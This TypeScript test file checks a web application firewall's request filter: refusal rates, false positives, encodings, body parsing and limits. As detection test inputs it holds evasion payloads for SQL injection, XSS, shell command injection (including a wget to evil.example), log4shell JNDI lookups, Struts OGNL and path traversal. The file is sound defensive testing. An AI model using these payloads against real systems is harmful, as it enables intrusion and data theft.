// biome-ignore-all lint/suspicious/noTemplateCurlyInString: log4shell
import fc from "fast-check";
import { describe, expect, test, vi } from "vitest";
import { binaryOf } from "../../src/policies/binary.ts";
import type { PolicyVerdict } from "../../src/policies/contract.ts";
import { compile, type FilterOptions, filter, run, schema } from "../../src/policies/filter.ts";
import { checks, type Place } from "../../src/policies/filter-inspection.ts";
import { READINGS, type Rule, rules } from "../../src/policies/filter-rules.ts";
import { normalisePath } from "../../src/table/path.ts";
import type { PolicyMode } from "../../src/table/table.ts";
import { transformations } from "../../src/waf/transformations.ts";
import { compileContext, type PolicyResult, startPolicy } from "./exchange.ts";
import * as corpus from "./filter-corpus.ts";
import { filterRules } from "./filter-pack.ts";

const ORIGIN = "https://api.example.com";

interface Outcome extends PolicyResult {
  readonly verdict: PolicyVerdict;
  /** Ids of the rules that matched. */
  readonly matched: readonly string[];
  readonly targets: readonly string[];
}

/** A filter with these options, for any number of requests. */
function start(options: FilterOptions = {}, mode: PolicyMode = "enforce") {
  const ask = startPolicy(run, compile(options, compileContext()), { mode, packs: { filter: filterRules } });
  return async (request: Request): Promise<Outcome> => {
    const normal = normalisePath(new URL(request.url).pathname);
    const result = await ask(request, "path" in normal ? { path: normal.path } : {});
    const [verdict, ...more] = result.exchange.record.policies;
    expect(more).toEqual([]);
    const found = (verdict?.facts?.rules ?? []) as { id: string; target: string }[];
    return {
      ...result,
      verdict: verdict as PolicyVerdict,
      matched: found.map(({ id }) => id),
      targets: found.map(({ target }) => target),
    };
  };
}

const get = (target: string, headers: HeadersInit = {}) => new Request(ORIGIN + target, { headers });
const query = (value: string) => get(`/v1/orders?q=${encodeURIComponent(value.toWellFormed())}`);
const post = (type: string | undefined, body: BodyInit, headers: Record<string, string> = {}) => {
  const request = new Request(`${ORIGIN}/v1/orders`, { method: "POST", headers, body });
  if (type) request.headers.set("content-type", type);
  else request.headers.delete("content-type");
  return request;
};
const form = (value: string) =>
  post("application/x-www-form-urlencoded", `page=1&q=${encodeURIComponent(value.toWellFormed())}`);
const json = (value: string) => post("application/json", JSON.stringify({ page: 1, q: value, tags: ["a", value] }));
const header = (name: string, value: string) => get("/v1/orders", { [name]: value });
// What passes through Headers as it is.
const isHeaderValue = (value: string) => /^[\t\x20-\x7e]*$/.test(value);

interface Sample {
  readonly kind: string;
  readonly value: string;
  readonly request: Request;
}

const sample = (kind: string, value: string, request: Request): Sample => ({ kind, value, request });

const attacks = (): Sample[] => [
  ...Object.entries(corpus.attackValues).flatMap(([kind, values]) =>
    values.flatMap((value) => [
      sample(`${kind} in a query`, value, query(value)),
      sample(`${kind} in a form`, value, form(value)),
      sample(`${kind} in JSON`, value, json(value)),
    ]),
  ),
  ...corpus.attackQueryValues.map((value) => sample("query", value, query(value))),
  ...corpus.attackTargets.map((target) => sample("target", target, get(target))),
  ...corpus.attackHeaders.map(([name, value]) => sample(name, value, header(name, value))),
];

const benign = (): Sample[] => [
  ...Object.entries(corpus.benignValues).flatMap(([kind, values]) =>
    values.flatMap((value) => [
      sample(`${kind} in a query`, value, query(value)),
      sample(`${kind} in a form`, value, form(value)),
      sample(`${kind} in JSON`, value, json(value)),
      ...(isHeaderValue(value) ? [sample(`${kind} in a header`, value, header("x-note", value))] : []),
    ]),
  ),
  ...corpus.benignDocuments.flatMap((text) => [
    sample("document in JSON", text, json(text)),
    sample("text", text, post("text/plain", text)),
  ]),
  ...corpus.benignAgents.map((value) => sample("user-agent", value, header("user-agent", value))),
  ...corpus.benignCookies.map((value) => sample("cookie", value, header("cookie", value))),
  ...corpus.benignTargets.map((target) => sample("target", target, get(target))),
];

describe("what it is measured by", () => {
  test("at least 97 % of the attacks are refused, and the record never holds their values", async () => {
    const ask = start();
    const all = attacks();
    const missed: string[] = [];
    for (const { kind, value, request } of all) {
      const { response, exchange } = await ask(request);
      if (response.status !== 403) missed.push(`${kind}: ${value}`);
      if (value.length > 12) expect(JSON.stringify(exchange.record.policies)).not.toContain(JSON.stringify(value));
    }
    const rate = 1 - missed.length / all.length;
    console.info(
      `filter: ${all.length - missed.length} of ${all.length} attacks refused (${(100 * rate).toFixed(1)} %)`,
    );
    expect(all.length).toBeGreaterThanOrEqual(150);
    expect(rate, missed.join("\n")).toBeGreaterThanOrEqual(0.97);
  });

  test("no ordinary traffic is refused", async () => {
    const ask = start();
    const all = benign();
    const refused: string[] = [];
    for (const { kind, value, request } of all) {
      const { passed, matched } = await ask(request);
      if (!passed) refused.push(`${kind}: ${value} (${matched})`);
    }
    console.info(`filter: ${refused.length} of ${all.length} ordinary requests refused`);
    expect(all.length).toBeGreaterThanOrEqual(150);
    expect(refused).toEqual([]);
  });

  test.each(corpus.probes)("%s is noticed and passes", async (path) => {
    const { passed, verdict } = await start()(get(path));
    expect(passed).toBe(true);
    expect(verdict).toEqual({
      policy: "filter",
      verdict: "pass",
      facts: { score: 2, rules: [{ id: "probe", target: "path" }] },
    });
  });
});

describe("rules", () => {
  test("have unique ids", () => {
    const ids = [...checks, ...rules].map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
  });

  /** Carries `value` to a rule that looks in `place`. */
  const carriers: Partial<Record<Place, (value: string) => Request>> = {
    query,
    body: json,
    name: (value) => get(`/v1/orders?${encodeURIComponent(value)}=1`),
  };
  const read = ({ reads }: Rule, value: string) =>
    READINGS[reads].reduce((text, name) => transformations[name](text), binaryOf(new TextEncoder().encode(value)));
  // The generator knows no word boundaries, lookaheads and backreferences; what it makes without them is then sorted out.
  const generatable = (pattern: RegExp) =>
    new RegExp(
      pattern.source
        .replaceAll("\\b", "")
        .replaceAll("\\0", "\\x00")
        .replace(/\(\?![^)]*\)/g, "")
        .replace(/\\[1-3](?![0-9])/g, "x"),
    );

  // The words of the pack decide which patterns run at all: one forgotten there would silently switch off a rule.
  test.each(
    rules.filter(({ places }) => places.some((place) => place in carriers)).map((rule) => [rule.id, rule] as const),
  )("%s is found wherever its pattern matches", async (id, rule) => {
    const ask = start({}, "report");
    const carry = carriers[rule.places.find((place) => place in carriers) as Place] as (value: string) => Request;
    await fc.assert(
      fc.asyncProperty(fc.stringMatching(generatable(rule.pattern)), async (value) => {
        fc.pre(value.isWellFormed() && rule.pattern.test(read(rule, value)));
        expect((await ask(carry(value))).matched).toContain(id);
      }),
      { numRuns: 50, maxSkipsPerRun: 1000 },
    );
  });
});

describe("disguises", () => {
  test.each([
    ["sqli-union", query("1/*!50000union*//*!12345select*/1,2")],
    ["sqli-union", query("1/**/union/**/select/**/1")],
    ["sqli-union", query("1 union --x\n select 1")],
    ["sqli-union", query("1 union #x\n select 1")],
    ["sqli-union", get("/?q=1%A0union%A0select%A01")],
    ["sqli-union", query("1\tunion\v\nselect\u00a01")],
    ["sqli-tautology", json('" or ""="')],
    ["sqli-tautology", get("/?q=%2527%2520or%25201%253D1--")],
    ["sqli-comment", query("admin'/* the rest")],
    ["xss-script", json("&lt;script&gt;")],
    ["xss-script", json("&#60script&#x3e;")],
    ["xss-script", json("\\u003cscript\\u003e")],
    ["xss-script", json("<scr\0ipt>")],
    ["xss-script", get("/?q=%u003cscript%u003e")],
    ["xss-script", get("/?q=%c0%bcscript%c0%be")],
    ["xss-script", get("/?q=%ff%3cscript%3e")],
    ["xss-url", json("java\n\tscript:alert(1)")],
    ["rce-command", query("; c'a't /x")],
    ["rce-command", query(";cat$IFS$9/x")],
    ["rce-command", query(";c\\at${IFS}/x")],
    ["rce-command", query(";w$@get http://evil.example/")],
    ["log4shell", header("accept", "${jndi:ldap://evil.example/a}")],
    ["log4shell", header("authorization", "Bearer ${jndi:ldap://evil.example/a}")],
    ["log4shell", header("sec-ch-ua", "${jndi:ldap://evil.example/a}")],
    ["rce-java", header("content-type", "%{(#_='multipart/form-data')}")],
    ["traversal", get("/files/%252e%252e%252f%252e%252e%252fx")],
    ["traversal", header("x-original-url", "/../../x")],
  ])("%s %#", async (id, request) => {
    expect((await start()(request)).matched).toContain(id);
  });
});

describe("verdict", () => {
  test("a refusal is 403 request-filtered and tells the caller nothing of the rules", async () => {
    const { response, verdict, passed } = await start()(query("' or '1'='1"));
    expect([response.status, passed]).toEqual([403, false]);
    expect(await response.json()).toEqual({
      type: "urn:portcullis:problem:request-filtered",
      title: "The request looks like an attack",
      status: 403,
      code: "request-filtered",
      instance: "urn:portcullis:request:test",
    });
    expect(verdict).toEqual({
      policy: "filter",
      verdict: "deny",
      reason: "request-filtered",
      facts: { score: 5, rules: [{ id: "sqli-tautology", target: "query:q" }] },
    });
  });

  test("in report mode the request passes, with what would have happened", async () => {
    const { passed, verdict, exchange } = await start({}, "report")(json("<script>alert(1)</script>"));
    expect(passed).toBe(true);
    expect(verdict).toMatchObject({ verdict: "would-deny", reason: "request-filtered", facts: { score: 5 } });
    expect(new TextDecoder().decode(exchange.body as Uint8Array)).toContain("alert(1)");
  });

  test("below the threshold it passes, with its score; without a finding there are no facts", async () => {
    expect((await start()(get("/v1/orders?filter[$ne]=1"))).verdict).toEqual({
      policy: "filter",
      verdict: "pass",
      facts: { score: 2, rules: [{ id: "nosql-operator", target: "query" }] },
    });
    expect((await start()(get("/v1/orders?page=2"))).verdict).toEqual({ policy: "filter", verdict: "pass" });
  });

  test("scores add up over the request, each rule once", async () => {
    const twoNotices = "/wp-admin/?a[$ne]=1&b[$ne]=2";
    expect((await start()(get(twoNotices))).verdict.facts?.score).toBe(4);
    expect((await start({ threshold: 4 })(get(twoNotices))).response.status).toBe(403);
    expect((await start()(get(`${twoNotices}&c=%2527`))).response.status).toBe(403);
  });

  test.each([
    ["query:q", get("/?q=%3Cscript%3E")],
    ["query", get("/?%3Cscript%3E")],
    ["query", get("/?a.person@example.com=%3Cscript%3E")],
    ["query", get("/?4111111111111111=%3Cscript%3E")],
    ["query", get(`/?${"a".repeat(40)}=%3Cscript%3E`)],
    ["path", get("/%3Cscript%3E")],
    ["header:x-note", header("x-note", "<script>")],
    ["header:user-agent", header("user-agent", "<script>")],
    ["cookie:theme", header("cookie", "a=b; theme=%3Cscript%3E")],
    ["body:q", form("<script>")],
    ["body:tags", post("application/json", '{"a": {"tags": ["x", "<script>"]}}')],
    ["body", post("application/json", '"<script>"')],
    ["body", post("text/plain", "<script>")],
  ])("the record names %s", async (target, request) => {
    expect((await start()(request)).targets).toContain(target);
  });
});

describe("limits", () => {
  test("methods", async () => {
    const ask = start();
    expect((await ask(new Request(ORIGIN, { method: "PROPFIND" }))).matched).toEqual(["method"]);
    for (const method of ["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"]) {
      expect((await ask(new Request(ORIGIN, { method }))).passed).toBe(true);
    }
    expect((await start({ methods: ["GET"] })(new Request(ORIGIN, { method: "POST" }))).response.status).toBe(403);
  });

  test("count of headers", async () => {
    const headers = (count: number) => Array.from({ length: count }, (_, i): [string, string] => [`x-${i}`, "1"]);
    const ask = start({ maxHeaders: 20 });
    expect((await ask(get("/", headers(20)))).passed).toBe(true);
    expect((await ask(get("/", headers(21)))).matched).toEqual(["header-count"]);
    expect((await start()(get("/", headers(101)))).matched).toEqual(["header-count"]);
  });

  test("size of a header, also of those that are not searched", async () => {
    const ask = start();
    expect((await ask(header("authorization", "a".repeat(8192)))).passed).toBe(true);
    const { verdict } = await ask(header("authorization", "a".repeat(8193)));
    expect(verdict.facts).toEqual({ score: 5, rules: [{ id: "header-size", target: "header:authorization" }] });
    expect((await start({ maxHeaderBytes: 10 })(header("x-a", "a".repeat(11)))).matched).toEqual(["header-size"]);
  });

  test("size of the query", async () => {
    const ask = start({ maxQueryBytes: 10 });
    expect((await ask(get("/?q=45678901"))).matched).toEqual([]);
    expect((await ask(get("/?q=456789012"))).matched).toEqual(["query-size"]);
  });

  test("two lengths for one message", async () => {
    const request = get("/", { "content-length": "3", "transfer-encoding": "chunked" });
    expect((await start()(request)).matched).toEqual(["framing"]);
  });

  test("control characters in a header, where the runtime lets them in", async () => {
    expect((await start()(header("x-note", "a\x01b"))).matched).toEqual(["control-character"]);
    expect((await start()(header("x-note", "a\tb"))).matched).toEqual([]);
  });
});

describe("exclude", () => {
  const excluding = (...exclude: NonNullable<FilterOptions["exclude"]>) => start({ exclude });

  test("a rule", async () => {
    const ask = excluding({ rule: "sqli-tautology" });
    expect((await ask(query("' or '1'='1"))).passed).toBe(true);
    expect((await ask(query("<script>"))).passed).toBe(false);
  });

  test("a rule for one variable", async () => {
    const ask = excluding({ rule: "xss-script", target: "body:html" }, { rule: "xss-tag", target: "query:html" });
    expect((await ask(post("application/json", '{"html": "<script>"}'))).passed).toBe(true);
    expect((await ask(post("application/json", '{"html": "a", "b": "<script>"}'))).passed).toBe(false);
    expect((await ask(get("/?html=%3Csvg%3E"))).passed).toBe(true);
    expect((await ask(get("/?html=%3Csvg%3E&b=%3Csvg%3E"))).targets).toEqual(["query:b"]);
  });

  test("a rule for a part of the request", async () => {
    const ask = excluding({ rule: "xss-script", target: "body" });
    expect((await ask(post("application/json", '{"a": "<script>"}'))).passed).toBe(true);
    expect((await ask(query("<script>"))).passed).toBe(false);
  });

  test("a limit for one header", async () => {
    const ask = excluding({ rule: "header-size", target: "header:Authorization" });
    expect((await ask(header("authorization", "a".repeat(9000)))).passed).toBe(true);
    expect((await ask(header("x-note", "a".repeat(9000)))).passed).toBe(false);
  });
});

describe("encodings", () => {
  test.each([
    ["encoding-double", "/?q=%2527"],
    ["encoding-overlong", "/?q=%c0%af"],
    ["encoding-unicode", "/?q=%u0041"],
    ["encoding-double", "/%253Cb"],
  ])("%s is a sign, not yet an attack: %s", async (id, target) => {
    const { passed, matched } = await start()(get(target));
    expect([passed, matched]).toEqual([true, [id]]);
  });

  test("no bytes in a query, a cookie or a body make it fail", async () => {
    const ask = start({}, "report");
    const escaped = (bytes: Uint8Array) => [...bytes].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
    await fc.assert(
      fc.asyncProperty(
        fc.uint8Array({ maxLength: 200 }),
        fc.constantFrom(
          "application/json",
          "application/x-www-form-urlencoded",
          "text/xml",
          "multipart/form-data; boundary=a",
        ),
        async (bytes, type) => {
          expect((await ask(get(`/?q=${escaped(bytes)}`))).passed).toBe(true);
          expect((await ask(header("cookie", `a=${escaped(bytes)}`))).passed).toBe(true);
          const { passed, exchange } = await ask(post(type, bytes));
          expect(passed).toBe(true);
          if (bytes.length > 0) expect(exchange.body).toEqual(bytes);
        },
      ),
    );
  });

  test("no text in any place makes it fail", async () => {
    const ask = start({}, "report");
    const piece = fc.oneof(
      fc.string({ unit: "binary" }),
      fc.constantFrom(...Object.values(corpus.attackValues).flat()),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 5 }), async (pieces) => {
        const value = pieces.join("").toWellFormed();
        for (const request of [query(value), form(value), json(value), post("text/xml", value)]) {
          expect((await ask(request)).passed).toBe(true);
        }
      }),
      { numRuns: 50 },
    );
  });
});

describe("bodies", () => {
  const attack = "' or '1'='1";
  const bytes = (length: number) => new Uint8Array(length).map((_, i) => 97 + (i % 26));
  /** A body in these pieces, as a byte stream like those that the runtime makes. */
  const pieces = (...parts: (Uint8Array | Error)[]) =>
    new ReadableStream({
      type: "bytes",
      pull(controller) {
        const part = parts.shift();
        if (part instanceof Uint8Array) return controller.enqueue(part);
        if (part) return controller.error(part);
        controller.close();
        controller.byobRequest?.respond(0);
      },
    });

  test.each([
    ["application/json", "{\"a\": \"' or '1'='1\"}"],
    ["application/json; charset=utf-8", '{"a": "\\u0027 or \\u00271\\u0027=\\u00271"}'],
    ["application/json", '{"a": "x", "a": "\' or \'1\'=\'1", "a": "y"}'],
    ["application/json", "{\"' or '1'='1\": 1}"],
    ["application/json", "{\"a\": \"unfinished ' or '1'='1"],
    ["application/json", `{"a": "\\\\", "b": "${attack}"}`],
    ["application/json", '{"a": "\\" or \\"\\"=\\""}'],
    ["application/json", `\ufeff{"a": "${attack}"}`],
    ["application/json", `a=${attack}`],
    ["application/merge-patch+json", '["%27 or %271%27=%271"]'],
    ["application/x-ndjson", `{"a": 1}\n{"a": "${attack}"}\n`],
    ["application/x-www-form-urlencoded", "a=1&b=%27+or+%271%27%3D%271"],
    ["APPLICATION/X-WWW-FORM-URLENCODED; charset=utf-8", "a=1&b=%27+or+%271%27%3D%271"],
    ["text/plain", attack],
    [undefined, attack],
    ["application/xml", "<a>&apos; or &apos;1&apos;=&#x27;1</a>"],
    ["application/soap+xml", `<a b="${attack}"/>`],
    ["application/graphql", `{ user(name: "x${attack}") { id } }`],
    ["multipart/form-data; boundary=x", `--x\r\nContent-Disposition: form-data; name="q"\r\n\r\n${attack}\r\n--x--`],
    ['multipart/form-data; boundary="x y"', `--x y\nContent-Disposition: form-data; name=q\n\n${attack}\n--x y--`],
    ["multipart/form-data", attack],
    [
      "multipart/form-data; boundary=x",
      '--x\r\nContent-Disposition: form-data; name="f"; filename="../../../a"\r\n\r\n',
    ],
  ])("%s is looked at: %s", async (type, body) => {
    expect((await start()(post(type, body))).response.status).toBe(403);
  });

  test.each([
    ["application/octet-stream", attack],
    ["image/svg+xml-compressed", attack],
    ["application/vnd.openxmlformats-officedocument.wordprocessingml.document", attack],
    [
      "multipart/form-data; boundary=x",
      `--x\r\nContent-Disposition: form-data; name="f"; filename="a.sql"\r\n\r\n${attack}`,
    ],
  ])("%s is not", async (type, body) => {
    expect((await start()(post(type, body))).passed).toBe(true);
  });

  test("what is not looked at is not touched either", async () => {
    const request = post("application/octet-stream", "abc");
    expect((await start()(request)).exchange.body).toBeUndefined();
    expect(await request.bytes()).toEqual(new TextEncoder().encode("abc"));
    const unread = json("abc");
    expect((await start({ body: false })(unread)).exchange.body).toBeUndefined();
    expect(unread.bodyUsed).toBe(false);
    expect((await start()(get("/"))).exchange.body).toBeUndefined();
  });

  test("`types` replaces the list", async () => {
    const ask = start({ body: { types: ["application/octet-stream"] } });
    expect((await ask(post("application/octet-stream", attack))).response.status).toBe(403);
    expect((await ask(json(attack))).passed).toBe(true);
  });

  test("a compressed body passes with a notice, and an odd charset is refused", async () => {
    const compressed = await start()(post("application/json", "abc", { "content-encoding": "gzip" }));
    expect([compressed.passed, compressed.matched]).toEqual([true, ["body-encoded"]]);
    expect(compressed.exchange.body).toBeUndefined();
    for (const charset of ["utf-16", "utf-7", "ibm037", '"UTF-16LE"']) {
      const { matched, exchange } = await start()(post(`text/plain; charset=${charset}`, "abc"));
      expect([matched, exchange.body]).toEqual([["body-charset"], undefined]);
    }
    expect((await start()(post('text/plain; charset="ISO-8859-1"', "abc"))).matched).toEqual([]);
  });

  test("nesting does not matter", async () => {
    const deep = `${"[".repeat(30_000)}"${attack}"`;
    expect((await start()(post("application/json", deep))).response.status).toBe(403);
  });

  test("a refusal by the head leaves the body unread", async () => {
    const request = post("application/json", "{}");
    request.headers.set("user-agent", "sqlmap/1.7");
    const { response, exchange } = await start()(request);
    expect([response.status, exchange.body]).toEqual([403, undefined]);
  });

  test("a body up to `inspect` is held whole, a longer one is a stream with all of it", async () => {
    const ask = start({ body: { inspect: 1000 } });
    const whole = (await ask(post("text/plain", bytes(1000)))).exchange.body;
    expect(whole).toEqual(bytes(1000));
    for (const length of [1001, 5000, 300_000]) {
      const { passed, exchange } = await ask(post("text/plain", bytes(length)));
      expect(passed).toBe(true);
      expect(exchange.body).toBeInstanceOf(ReadableStream);
      expect(await new Response(exchange.body as ReadableStream).bytes()).toEqual(bytes(length));
    }
  });

  test("an attack is found across chunks, up to `inspect` and not behind it", async () => {
    const inChunks = (...parts: string[]) =>
      post("text/plain", pieces(...parts.map((part) => new TextEncoder().encode(part))));
    expect((await start()(inChunks("' o", "r '1'", "='1"))).response.status).toBe(403);
    const ask = start({ body: { inspect: 100 } });
    expect((await ask(inChunks("a".repeat(80), attack, "b".repeat(80)))).response.status).toBe(403);
    expect((await ask(inChunks("a".repeat(95), attack))).passed).toBe(true);
  });

  describe("with `tooLarge: refuse`", () => {
    const options: FilterOptions = { body: { inspect: 1000, tooLarge: "refuse" } };

    test("more than `inspect` is 413, and the rest is not read", async () => {
      let cancelled = false;
      const endless = new ReadableStream({
        type: "bytes",
        pull: (controller) => controller.enqueue(bytes(400)),
        cancel: () => void (cancelled = true),
      });
      const { response, verdict } = await start(options)(post("text/plain", endless));
      expect(response.status).toBe(413);
      expect(verdict).toEqual({ policy: "filter", verdict: "deny", reason: "body-too-large" });
      await vi.waitFor(() => expect(cancelled).toBe(true));
      expect((await start(options)(post("text/plain", bytes(1000)))).passed).toBe(true);
    });

    test("in report mode it passes whole", async () => {
      const { passed, verdict, exchange } = await start(options, "report")(post("text/plain", bytes(3000)));
      expect(passed).toBe(true);
      expect(verdict).toEqual({ policy: "filter", verdict: "would-deny", reason: "body-too-large" });
      expect(await new Response(exchange.body as ReadableStream).bytes()).toEqual(bytes(3000));
    });

    test("bodies that are not looked at may have any length", async () => {
      expect((await start(options)(post("image/png", bytes(3000)))).passed).toBe(true);
    });
  });

  describe("the stream of a long body", () => {
    /** A body of `total` bytes in chunks of 10,000, with what happened to it. */
    function source(total: number) {
      const seen = { sent: 0, cancelled: undefined as unknown };
      const stream = new ReadableStream({
        type: "bytes",
        pull(controller) {
          if (seen.sent < total) {
            seen.sent += 10_000;
            return controller.enqueue(bytes(10_000));
          }
          controller.close();
          controller.byobRequest?.respond(0);
        },
        cancel(reason) {
          seen.cancelled = reason ?? "cancelled";
        },
      });
      return { seen, stream };
    }
    const open = async (stream: ReadableStream<Uint8Array>, headers: Record<string, string> = {}) => {
      const { exchange } = await start({ body: { inspect: 20_000 } })(post("text/plain", stream, headers));
      return exchange.body as ReadableStream<Uint8Array>;
    };
    const settled = () => new Promise((resolve) => setTimeout(resolve, 20));

    test("runs at its reader's pace: however long, it needs no more memory than the part that is held", async () => {
      const { seen, stream } = source(10_000_000);
      const body = await open(stream);
      await settled();
      expect(seen.sent).toBeLessThanOrEqual(50_000);
      const reader = body.getReader();
      let read = 0;
      let ahead = 0;
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) {
        read += chunk.value.length;
        ahead = Math.max(ahead, seen.sent - read);
      }
      expect(read).toBe(10_000_000);
      expect(ahead).toBeLessThanOrEqual(50_000);
    });

    test("is cancelled at the source when the origin stops reading, at once or later", async () => {
      for (const reads of [0, 1, 10]) {
        const { seen, stream } = source(100_000_000);
        const reader = (await open(stream)).getReader();
        for (let i = 0; i < reads; i++) await reader.read();
        await reader.cancel("origin gone");
        await vi.waitFor(() => expect(seen.cancelled).toBeDefined());
      }
    });

    test("fails for the origin when the client breaks off", async () => {
      const breaking = pieces(bytes(10_000), bytes(10_000), bytes(10_000), new Error("client gone"));
      await expect(new Response(await open(breaking)).bytes()).rejects.toThrow();
    });

    test("does not end early: fewer bytes than the Content-Length says are an error for the origin, too", async () => {
      const announced = { "content-length": "50000" };
      expect((await new Response(await open(source(50_000).stream, announced)).bytes()).length).toBe(50_000);
      await expect(new Response(await open(source(30_000).stream, announced)).bytes()).rejects.toThrow();
    });
  });

  test("a client that breaks off while the beginning is read is no answer of this policy", async () => {
    const breaking = pieces(bytes(100), new Error("client gone"));
    await expect(start()(post("text/plain", breaking))).rejects.toThrow("client gone");
  });
});

describe("options", () => {
  test("the builder declares the policy", () => {
    expect(filter({ threshold: 7 })).toMatchObject({ kind: "policy", policy: "filter", options: { threshold: 7 } });
  });

  test("defaults, and a form that does not depend on order", () => {
    expect(compile({}, compileContext())).toEqual({
      threshold: 5,
      methods: ["DELETE", "GET", "HEAD", "OPTIONS", "PATCH", "POST", "PUT"],
      maxHeaders: 100,
      maxHeaderBytes: 8192,
      maxQueryBytes: 8192,
      body: { inspect: 65536, tooLarge: "pass" },
      exclude: {},
    });
    const one: FilterOptions = {
      methods: ["POST", "GET"],
      body: { types: ["text/xml", "application/json"] },
      exclude: [{ rule: "xss-tag", target: "query:b" }, { rule: "probe" }, { rule: "xss-tag", target: "query:a" }],
    };
    const other: FilterOptions = {
      methods: ["GET", "POST"],
      body: { types: ["application/json", "text/xml"] },
      exclude: [{ rule: "xss-tag", target: "query:a" }, { rule: "xss-tag", target: "query:b" }, { rule: "probe" }],
    };
    expect(JSON.stringify(compile(one, compileContext()))).toBe(JSON.stringify(compile(other, compileContext())));
    expect(compile(one, compileContext()).exclude).toEqual({ probe: true, "xss-tag": ["query:a", "query:b"] });
    expect(compile({ body: false }, compileContext()).body).toBe(false);
  });

  test("an exclusion for a place where the rule never looks is a problem", () => {
    const context = compileContext();
    compile(
      {
        exclude: [
          { rule: "scanner", target: "query:q" },
          { rule: "method", target: "path" },
        ],
      },
      context,
    );
    expect(context.problems).toHaveLength(2);
    expect(context.problems.join()).toContain('scanner does not look at "query:q"');
  });

  test.each([
    { threshold: 0 },
    { methods: [] },
    { methods: ["get"] },
    { maxHeaders: 1.5 },
    { body: true },
    { body: { inspect: 2 ** 21 } },
    { body: { tooLarge: "drop" } },
    { body: { types: ["JSON"] } },
    { exclude: [{ rule: "sqli-onion" }] },
    { exclude: [{ rule: "probe", target: "somewhere" }] },
    { paranoia: 2 },
  ])("%j is refused", (options) => {
    expect(schema().safeParse(options).success).toBe(false);
  });

  test("all options together are accepted", () => {
    const options: FilterOptions = {
      mode: "report",
      threshold: 10,
      methods: ["GET"],
      maxHeaders: 50,
      maxHeaderBytes: 16384,
      maxQueryBytes: 2048,
      body: { inspect: 1024, tooLarge: "refuse", types: ["application/json"] },
      exclude: [{ rule: "xss-tag", target: "body:html" }, { rule: "method" }],
    };
    expect(schema().safeParse(options).success).toBe(true);
  });
});
